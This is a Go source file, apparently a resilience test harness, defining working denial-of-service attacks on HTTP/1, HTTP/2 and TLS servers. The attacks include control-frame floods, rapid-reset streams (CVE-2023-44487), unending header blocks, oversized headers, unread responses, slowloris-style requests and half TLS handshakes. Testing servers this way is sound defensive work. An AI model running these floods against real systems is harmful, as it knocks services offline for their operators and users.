package flood

import (
	"context"
	"fmt"
	"strings"
	"time"
)

// Control are the floods of frames that cost the sender nothing (CVE-2019-9512, 9515, 9518 and their kin).
var Control = []Attack{
	{Name: "PING acks unasked", Connections: 2, Repeat: []string{"PING 0 ack | hex: 0001020304050607"}},
	{Name: "PING", Connections: 2, Repeat: []string{"PING 0 | hex: 0001020304050607"}},
	{Name: "SETTINGS", Connections: 2, Repeat: []string{"SETTINGS 0"}},
	{Name: "PRIORITY", Connections: 2, Repeat: []string{"PRIORITY 1 | hex: 0000000010", "PRIORITY 3 | hex: 0000000010"}},
	{Name: "WINDOW_UPDATE", Connections: 2, Repeat: []string{"WINDOW_UPDATE 0 | 1"}},
	{Name: "RST_STREAM closed", Connections: 2, Setup: []string{"HEADERS 1 end | @get"}, Repeat: []string{"RST_STREAM 1 | 8"}},
	{Name: "empty DATA", Connections: 2, Setup: []string{"HEADERS 1 | @post"}, Repeat: []string{"DATA 1"}},
	{Name: "empty CONTINUATION", Connections: 2, Setup: []string{"HEADERS 1 end more | @get"}, Repeat: []string{"CONTINUATION 1 more"}},
	// Each asks for an answer, which the attacker does not take.
	{Name: "PING unread", Connections: 2, Unread: true, Repeat: []string{"PING 0 | hex: 0001020304050607"}},
	{Name: "SETTINGS unread", Connections: 2, Unread: true, Repeat: []string{"SETTINGS 0"}},
	{Name: "unknown frames", Connections: 2, Repeat: []string{"FRAME 0xee 0"}},
}

// HalfHead keeps header blocks open that never end.
var HalfHead = Attack{Name: "HEADERS without end", Connections: 100, Run: func(ctx context.Context, c *Connection) error {
	if err := c.Preface(""); err != nil {
		return err
	}
	b, err := c.Frames("HEADERS 1 end more | @get")
	if err != nil {
		return err
	}
	if _, err := c.Write(b); err != nil {
		return err
	}
	c.Count(1)
	return c.Pause(ctx, time.Hour)
}}

// resets opens streams and resets them after a while (CVE-2023-44487), while the upstream still works on them.
func resets(name string, wait time.Duration) Attack {
	return Attack{Name: name, Connections: 2, Run: func(ctx context.Context, c *Connection) error {
		if err := c.Preface(""); err != nil {
			return err
		}
		for id := uint32(1); id < 1<<30; id += 2 {
			head, err := c.Frames(fmt.Sprintf("HEADERS %d end | :method: GET | :scheme: http | :authority: host | :path: /slow", id))
			if err != nil {
				return err
			}
			reset, err := c.Frames(fmt.Sprintf("RST_STREAM %d | 8", id))
			if err != nil {
				return err
			}
			if wait == 0 {
				if _, err := c.Write(append(head, reset...)); err != nil {
					return err
				}
			} else {
				if _, err := c.Write(head); err != nil {
					return err
				}
				if err := c.Pause(ctx, wait); err != nil {
					return err
				}
				if _, err := c.Write(reset); err != nil {
					return err
				}
			}
			c.Count(1)
			// A thousand a second and connection; without it one write would hold them all.
			if err := c.Pause(ctx, time.Millisecond); err != nil {
				return err
			}
		}
		return nil
	}}
}

// ResetsAtOnce resets streams before they can be looked at, ResetsAfter when their request is on its way.
var (
	ResetsAtOnce = resets("resets at once", 0)
	ResetsAfter  = resets("resets after 1 ms", time.Millisecond)
)

// ConnectionNames sends requests whose connection field names 57 kB of fields.
var ConnectionNames = Attack{Name: "57 kB of connection names", Connections: 4, Run: func(ctx context.Context, c *Connection) error {
	var names strings.Builder
	for i := 0; names.Len() < 57_000; i++ {
		fmt.Fprintf(&names, "x%d,", i)
	}
	request := []byte("GET /names HTTP/1.1\r\nHost: h\r\nConnection: " + names.String() + "x\r\n" + strings.Repeat("X-A: b\r\n", 60) + "\r\n")
	for {
		if _, err := c.Write(request); err != nil {
			return err
		}
		c.Count(1)
		// At most 400 requests and 23 MB a second: more bytes than the others, which cost the sender no work.
		if err := c.Pause(ctx, 10*time.Millisecond); err != nil {
			return err
		}
	}
}}

// EscapedPaths sends paths of 57 kB that a policy looks at, every character escaped, with two slashes to begin with: each is
// read in as many ways as servers read it.
var EscapedPaths = Attack{Name: "57 kB of escapes in the path", Listener: "policy", Connections: 4, Run: func(ctx context.Context, c *Connection) error {
	request := []byte("GET //h/" + strings.Repeat("%21", 19_000) + " HTTP/1.1\r\nHost: h\r\n\r\n")
	for {
		if _, err := c.Write(request); err != nil {
			return err
		}
		c.Count(1)
		// Half as many: each character has to be looked at by who normalizes, who decides and who forwards.
		if err := c.Pause(ctx, 20*time.Millisecond); err != nil {
			return err
		}
	}
}}

// RepeatedField sends heads of 58 kB that have one field ninety times, which a thousand policies look at. Each time it is
// another value, so that nothing can be taken for the same.
var RepeatedField = Attack{Name: "a field ninety times, 1000 policies", Listener: "policies", Connections: 4, Run: func(ctx context.Context, c *Connection) error {
	var fields strings.Builder
	for i := range 90 {
		fmt.Fprintf(&fields, "X-Role: %s%d\r\n", strings.Repeat("nobody", 105), i)
	}
	request := []byte("GET /roles HTTP/1.1\r\nHost: h\r\n" + fields.String() + "\r\n")
	for {
		if _, err := c.Write(request); err != nil {
			return err
		}
		c.Count(1)
		// As above: more bytes than the others send, not more requests than can be served.
		if err := c.Pause(ctx, 10*time.Millisecond); err != nil {
			return err
		}
	}
}}

// UnreadStreams asks for 200 answers of 1 MiB on each connection, gives windows for all of them, and reads nothing.
var UnreadStreams = Attack{Name: "200 streams unread", Connections: 5, Unread: true, Run: func(ctx context.Context, c *Connection) error {
	if err := c.Preface(" | 4=16777216"); err != nil {
		return err
	}
	lines := []string{"WINDOW_UPDATE 0 | 0x3fffffff"}
	for i := range 200 {
		lines = append(lines, fmt.Sprintf("HEADERS %d end | :method: GET | :scheme: http | :authority: host | :path: /size/1048576", 2*i+1))
	}
	b, err := c.Frames(lines...)
	if err != nil {
		return err
	}
	if _, err := c.Write(b); err != nil {
		return err
	}
	c.Count(200)
	return c.Pause(ctx, time.Hour)
}}

// largeHead is what a field in the compression table makes of a few bytes: a head of 60 kB that costs about thirty once its
// field is there, which the first takes with it.
func largeHead(stream int, end bool, path string) string {
	line := fmt.Sprintf("HEADERS %d", stream)
	if end {
		line += " end"
	}
	line += " | :method: POST | :scheme: http | :authority: host | :path: " + path
	return line + strings.Repeat(" | x-a: "+strings.Repeat("a", 3900), 15)
}

// UnreadHeads fills what waits to be sent to it with answers that it does not read, then asks for what is refused with
// large heads, whose answers wait behind.
var UnreadHeads = Attack{Name: "large heads, answers unread", Listener: "policy", Connections: 8, Unread: true, Run: func(ctx context.Context, c *Connection) error {
	if err := c.Preface(" | 4=16777216"); err != nil {
		return err
	}
	lines := []string{"WINDOW_UPDATE 0 | 0x3fffffff"}
	for i := range 4 {
		lines = append(lines, fmt.Sprintf("HEADERS %d end | :method: GET | :scheme: http | :authority: host | :path: /size/8000000", 2*i+1))
	}
	b, err := c.Frames(lines...)
	if err != nil {
		return err
	}
	if _, err := c.Write(b); err != nil {
		return err
	}
	// Until the kernel takes no more.
	if err := c.Pause(ctx, 500*time.Millisecond); err != nil {
		return err
	}
	return largeHeads(ctx, c, 9, true, "/admin")
}}

// WaitingHeads begins requests with large heads, reads what is answered, and lets their bodies be waited for.
var WaitingHeads = Attack{Name: "large heads, bodies awaited", Connections: 5, Run: func(ctx context.Context, c *Connection) error {
	if err := c.Preface(""); err != nil {
		return err
	}
	return largeHeads(ctx, c, 1, false, "/waits")
}}

// largeHeads sends 200 requests from a stream on, not faster than they can be read in a moment, and waits.
func largeHeads(ctx context.Context, c *Connection, first int, end bool, path string) error {
	for i := range 200 {
		b, err := c.Frames(largeHead(first+2*i, end, path))
		if err != nil {
			return err
		}
		if _, err := c.Write(b); err != nil {
			return err
		}
		c.Count(1)
		if err := c.Pause(ctx, 5*time.Millisecond); err != nil {
			return err
		}
	}
	return c.Pause(ctx, time.Hour)
}

// Unread1 asks for an answer of 8 MiB over HTTP/1 and reads nothing.
var Unread1 = Attack{Name: "HTTP/1 answers unread", Connections: 100, Unread: true, Run: func(ctx context.Context, c *Connection) error {
	if _, err := c.Write([]byte("GET /size/8000000 HTTP/1.1\r\nHost: h\r\n\r\n")); err != nil {
		return err
	}
	c.Count(1)
	return c.Pause(ctx, time.Hour)
}}

// slowly sends text a byte at a time.
func slowly(name, text string, connections int) Attack {
	return Attack{Name: name, Connections: connections, Run: func(ctx context.Context, c *Connection) error {
		for i := range len(text) {
			if _, err := c.Write([]byte{text[i]}); err != nil {
				return err
			}
			c.Count(1)
			if err := c.Pause(ctx, 50*time.Millisecond); err != nil {
				return err
			}
		}
		return nil
	}}
}

// SlowHeads and SlowBodies arrive byte by byte.
var (
	SlowHeads  = slowly("slow heads", "GET / HTTP/1.1\r\nHost: h\r\nX-A: "+strings.Repeat("a", 10_000), 200)
	SlowBodies = slowly("slow bodies", "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 100000\r\n\r\n"+strings.Repeat("a", 100_000), 200)
)

// RetriedBodies sends nearly the whole of a body of 1 MiB, which a retry would need again, and leaves it at that.
var RetriedBodies = Attack{Name: "bodies kept for retries", Connections: 300, Run: func(ctx context.Context, c *Connection) error {
	if _, err := c.Write([]byte("POST /retried HTTP/1.1\r\nHost: h\r\nContent-Length: 1048576\r\n\r\n")); err != nil {
		return err
	}
	piece := make([]byte, 50<<10)
	for range 20 {
		if _, err := c.Write(piece); err != nil {
			return err
		}
		c.Count(1)
		// 100 MB a second from all of them.
		if err := c.Pause(ctx, 150*time.Millisecond); err != nil {
			return err
		}
	}
	return c.Pause(ctx, time.Hour)
}}

// HalfHello begins a TLS handshake that never goes on.
var HalfHello = Attack{Name: "half a ClientHello", Connections: 200, Listener: "tls", Run: func(ctx context.Context, c *Connection) error {
	// A record of 512 bytes is announced, and a ClientHello of 508 in it.
	if _, err := c.Write([]byte("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")); err != nil {
		return err
	}
	c.Count(1)
	return c.Pause(ctx, time.Hour)
}}

// Silent connects and says nothing.
var Silent = Attack{Name: "silent connections", Connections: 500, Run: func(ctx context.Context, c *Connection) error {
	c.Count(1)
	return c.Pause(ctx, time.Hour)
}}
